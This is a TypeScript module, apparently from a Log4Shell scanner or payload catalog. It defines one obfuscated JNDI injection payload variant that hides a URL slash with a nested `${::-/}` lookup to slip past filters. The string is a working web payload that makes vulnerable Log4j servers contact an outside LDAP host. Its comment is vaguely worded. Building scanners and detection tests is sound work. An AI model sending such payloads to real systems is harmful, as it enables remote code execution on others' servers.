import { afterScheme, disguise } from '../form.ts'

/**
 * Up to 2.7 the name ends before its host, and the target asks its own port 389: sent only where it is asked for.
 */
export const defaultSlash = disguise(
  {
    id: 'default-slash',
    summary: 'a slash of the URL as a default',
    firesOn: ['B', 'C'],
    profile: null,
    seenIn: ['Metasploit log4shell_scanner'],
  },
  (target) => `\${jndi:${target.scheme}:\${::-/}${afterScheme(target).slice(1)}}`,
)
